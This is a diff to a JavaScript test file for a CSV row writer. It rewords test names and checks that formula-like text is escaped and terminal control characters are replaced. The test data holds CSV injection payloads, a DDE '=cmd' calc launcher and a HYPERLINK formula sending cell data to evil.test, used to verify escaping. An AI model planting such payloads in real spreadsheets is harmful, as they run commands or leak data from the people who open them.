@@ -12,9 +12,11 @@ test.each([
   ["", ""],
   ["Grüße 日本語 😀", "Grüße 日本語 😀"],
   ["a-b@c.test", "a-b@c.test"],
-])("%j is written %j", (text, cell) => expect(csvRow([text])).toBe(`${cell}\r\n`));
+])("the text %j becomes the CSV cell %j", (text, cell) =>
+  expect(csvRow([text])).toBe(`${cell}\r\n`),
+);
 
-test("a record is its cells with commas between them; what is missing is empty", () => {
+test("a CSV record joins its cells with commas and leaves missing values empty", () => {
   expect(csvRow(["a", null, 5, -5, undefined, "b"])).toBe("a,,5,-5,,b\r\n");
 });
 
@@ -35,9 +37,11 @@ test.each([
   ["＝1+1", "'＝1+1"],
   ['=cmd|" /C calc"!A0', '"\'=cmd|"" /C calc""!A0"'],
   ['=HYPERLINK("http://evil.test?x="&A1,"x")', '"\'=HYPERLINK(""http://evil.test?x=""&A1,""x"")"'],
-])("%j is no formula to a spreadsheet", (text, cell) => expect(csvRow([text])).toBe(`${cell}\r\n`));
+])("the text %j is escaped so that a spreadsheet does not run it as a formula", (text, cell) =>
+  expect(csvRow([text])).toBe(`${cell}\r\n`),
+);
 
-test("codes that a terminal would obey are replaced", () => {
+test("terminal control characters are replaced in CSV output", () => {
   expect(csvRow(["\x1b[31mred\x9b0m\0\u202e"])).toBe("\ufffd[31mred\ufffd0m\ufffd\ufffd\r\n");
   expect(csvRow(["\x1b=1"])).toBe("\ufffd=1\r\n");
 });
